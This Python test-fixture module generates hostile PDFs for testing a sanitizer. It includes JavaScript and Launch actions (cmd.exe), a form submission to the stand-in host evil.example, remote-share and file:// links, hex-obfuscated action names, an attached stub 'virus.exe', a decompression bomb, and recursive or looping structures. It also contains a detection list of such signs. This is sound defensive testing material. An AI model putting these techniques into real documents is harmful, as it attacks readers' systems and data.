"""PDF files that hide or overwhelm: (what it is, its bytes, the code it gets); and such that would act or carry other
files, if a reader let them: (what it is, its bytes, what must not be in what is kept).
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.documents.pictures import pdf_scan, photograph, saved
from tests.documents.rare_pictures import JPEG_OF_12_BITS

Row = tuple[str, bytes, str]
SIGNS = (
    b"alert",
    b"evil.example",
    b"calc.exe",
    b"cmd.exe",
    b"virus",
    b"data.fdf",
    b"JavaScript",
    b"Launch",
    b"EmbeddedFile",
)
"""What the acting ones act with, as it stands in an unpacked file."""

CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
ONE_PAGE = (b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>")


def hostile_pdfs() -> Iterator[Row]:
    yield from _locked()
    yield from _broken()
    yield from _too_much()


def acting_pdfs() -> Iterator[tuple[str, bytes]]:
    yield from _acting()
    yield from _hidden_actions()
    yield from carrying_pdfs()


def changed(change: Callable[[Pdf], object], **options: Any) -> bytes:
    """A one-page PDF after `change`."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    change(pdf)
    return saved(pdf, **options)


def written_by_hand(*objects: bytes) -> bytes:
    """A PDF of numbered objects just as they stand here; object 1 is the catalogue."""
    output = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(output))
    return bytes(output) + table + trailer


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **more)


def _link(pdf: Pdf, act: Dictionary, subtype: str = "/Link", **more: Any) -> None:
    annotation = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 200, 200]), A=act, **more)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _acting() -> Iterator[tuple[str, bytes]]:
    script = action("JavaScript", JS=String("app.alert(1)"))
    linked = {
        "program started by a link": action("Launch", F=String("cmd.exe")),
        "script in a link": script,
        "link that sends a form": action("SubmitForm", F=String("https://evil.example/")),
        "link that fetches data": action("ImportData", F=String("data.fdf")),
        "link to another file": action("GoToR", F=String("//evil.example/share/a.pdf"), D=Array([0, Name.Fit])),
        "link into a carried file": action("GoToE", D=Array([0, Name.Fit])),
        "link to a script address": action("URI", URI=String(" JavaScript:alert(1)")),
        "link to a local file": action("URI", URI=String("file:///c:/windows/system32/calc.exe")),
        "link that plays a film": action("Rendition", OP=0),
    }
    for what, act in linked.items():
        yield what, changed(lambda pdf, act=act: _link(pdf, act))  # type: ignore[misc]

    def on_opening(pdf: Pdf) -> None:
        pdf.Root.OpenAction = script

    def by_name(pdf: Pdf) -> None:
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))

    def when_a_page_opens(pdf: Pdf) -> None:
        pdf.pages[0].obj.AA = Dictionary(O=action("Named", N=Name.Print))

    def in_a_form(pdf: Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))

    def after_another_action(pdf: Pdf) -> None:
        _link(pdf, action("GoTo", D=Array([0, Name.Fit]), Next=Array([script])))

    def as_postscript(pdf: Pdf) -> None:
        stream = pdf.make_stream(b"quit", Type=Name.XObject, Subtype=Name.PS)
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=stream))

    for change in (on_opening, by_name, when_a_page_opens, in_a_form, after_another_action, as_postscript):
        yield f"active content {change.__name__.replace('_', ' ')}", changed(change)


def _hidden_actions() -> Iterator[tuple[str, bytes]]:
    def compressed(pdf: Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action("JavaScript", JS=String("app.alert(1)")))

    in_stream = changed(compressed, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "script in a compressed object stream", in_stream

    alone = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    yield "script nothing refers to", written_by_hand(CATALOGUE, *ONE_PAGE, alone)
    spelt = b"<</Type/Catalog/Pages 2 0 R/Open#41ction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>>>"
    yield "script under a name spelt in numbers", written_by_hand(spelt, *ONE_PAGE)
    deep = b"<</Type/Catalog/Pages 2 0 R/X[[[<</Y[<</Z<</S/Launch/F(cmd.exe)>>>>]>>]]]>>"
    yield "program deep inside other objects", written_by_hand(deep, *ONE_PAGE)


def carrying_pdfs() -> Iterator[tuple[str, bytes]]:
    def attached(pdf: Pdf) -> None:
        pdf.attachments["virus.exe"] = b"MZ"

    def pinned(pdf: Pdf) -> None:
        carried = pikepdf.AttachedFileSpec(pdf, b"MZ", filename="virus.exe").obj
        _link(pdf, action("GoTo"), "/FileAttachment", FS=carried)

    def played(kind: str) -> Callable[[Pdf], None]:
        return lambda pdf: _link(pdf, action("GoTo"), kind)

    yield "attached program", changed(attached)
    shy = b"<</Type/Catalog/Pages 2 0 R/X<</EF<</F 4 0 R>>>>>>", b"<</Length 2>>stream\nMZ\nendstream"
    yield "program attached without saying so", written_by_hand(shy[0], *ONE_PAGE, shy[1])
    yield "program pinned to a page", changed(pinned)
    for kind in ("/RichMedia", "/Movie", "/Sound", "/Screen", "/3D"):
        yield f"annotation {kind}", changed(played(kind))


def _locked() -> Iterator[Row]:
    locked = changed(lambda pdf: None, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    yield "password needed to open", locked, "encrypted"

    def drawn_by_a_program(pdf: Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
        pdf.Root.NeedsRendering = True

    yield "form that only one program draws", changed(drawn_by_a_program), "needs_a_program"

    def drawn_anew(pdf: Pdf) -> None:
        settings = pdf.make_stream(b"<config><acrobat7><dynamicRender>required</dynamicRender></acrobat7></config>")
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=Array([String("config"), settings]))

    yield "form that only one program draws, in parts", changed(drawn_anew), "needs_a_program"

    def package(pdf: Pdf) -> None:
        pdf.Root.Collection = Dictionary(View=Name.D)
        pdf.attachments["statement.pdf"] = pdf_scan(1)

    yield "package of files with a cover", changed(package), "portfolio"


def _broken() -> Iterator[Row]:
    scan = pdf_scan()
    yield "PDF cut short", scan[: len(scan) * 2 // 3], "cut_short"
    yield "PDF without its last line", scan[:-30], "cut_short"
    yield "PDF of its first line", scan[:9], "unreadable"
    yield "PDF of noise", b"%PDF-1.7\n" + bytes(range(256)) * 8, "unreadable"
    yield "PDF without pages", saved(pikepdf.new()), "unreadable"
    yield (
        "PDF whose letters a viewer has to bring, around what cannot be kept",
        _kept_only_as_picture(),
        "shown_otherwise",
    )
    yield (
        "PDF form filled in with letters that no font of ours has",
        changed(_filled_in_rare_letters),
        "letters_to_bring",
    )
    yield "PDF whose picture no decoder opens", changed(_around_a_picture_of_12_bits), "picture_unseen"
    loop = written_by_hand(CATALOGUE, b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield "PDF whose pages go in circles", loop, "pages_missing"
    lost = written_by_hand(CATALOGUE, b"<</Type/Pages/Kids[3 0 R 9 0 R]/Count 2>>", ONE_PAGE[1])
    yield "PDF without its second page", lost, "pages_missing"


def _too_much() -> Iterator[Row]:
    yield "PDF of 51 pages", pdf_scan(51), "too_many_pages"
    bomb = zlib.compressobj(9)
    packed = b"".join(bomb.compress(bytes(1024 * 1024)) for _ in range(40)) + bomb.flush()
    yield "PDF that unpacks to 40 MB", pdf_around(packed, Name.FlateDecode), "too_complex"
    yield "PDF with a picture of 30,000 by 30,000", pdf_around(photograph(), Name.DCTDecode, 30_000), "too_many_pixels"
    yield "PDF of 50,000 objects", written_by_hand(CATALOGUE, *ONE_PAGE, *[b"0"] * 50_000), "too_complex"


def _kept_only_as_picture() -> bytes:
    def draw(pdf: Pdf) -> None:
        taken = b"q 100 0 0 100 0 0 cm\nBI /W 300/H 200/BPC 8/CS/RGB/F/DCT ID " + photograph() + b"\nEI Q"
        taken += b" BT /F 24 Tf 10 150 Td <5F204E09> Tj ET"
        descriptor = pdf.make_indirect(Dictionary(Type=Name.FontDescriptor, FontName=Name.SimSun))
        letters = Dictionary(Type=Name.Font, Subtype=Name.CIDFontType2, BaseFont=Name.SimSun, FontDescriptor=descriptor)
        letters.CIDSystemInfo = Dictionary(Registry=String("Adobe"), Ordering=String("GB1"), Supplement=2)
        font = Dictionary(Type=Name.Font, Subtype=Name.Type0, BaseFont=Name.SimSun, DescendantFonts=Array([letters]))
        font.Encoding = Name("/UniGB-UCS2-H")
        pdf.pages[0].obj.Resources = Dictionary(Font=Dictionary(F=font))
        pdf.pages[0].obj.Contents = pdf.make_stream(taken)

    return changed(draw)


def _around_a_picture_of_12_bits(pdf: Pdf) -> None:
    image = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=64, Height=64)
    image.BitsPerComponent, image.ColorSpace = 8, Name.DeviceGray
    image.write(JPEG_OF_12_BITS, filter=Name.DCTDecode)
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=image))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 99 0 0 99 0 0 cm /I Do Q")


def _filled_in_rare_letters(pdf: Pdf) -> None:
    form = Dictionary(FT=Name.Tx, T=String("name"), V=String("𠮷"))
    box = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, Parent=pdf.make_indirect(form), Rect=Array([0, 0, 99, 20]), F=4
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(box)])
    pdf.Root.AcroForm = Dictionary(Fields=Array([box.Parent]), NeedAppearances=True)


def pdf_around(data: bytes, filters: Name | Array, side: int = 100) -> bytes:
    def add(pdf: Pdf) -> None:
        image = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=side, Height=side)
        image.BitsPerComponent, image.ColorSpace = 8, Name.DeviceRGB
        image.write(data, filter=filters)
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=image))

    return changed(add, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def nested_forms(depth: int, each: int) -> bytes:
    """A page that draws a form that draws a form … `each` times at each of `depth` levels: a few bytes, much work."""
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]%s/Length %d>>stream\n%s\nendstream"
    drawn = b"/F Do " * each
    forms = [form % (b"/Resources<</XObject<</F %d 0 R>>>>" % (6 + n), len(drawn), drawn) for n in range(depth)]
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Contents 4 0 R>>"
    begun = b"<</Length 5>>stream\n/F Do\nendstream"
    last = form % (b"", 12, b"0 0 9 9 re f")
    return written_by_hand(CATALOGUE, ONE_PAGE[0], page, begun, *forms, last)
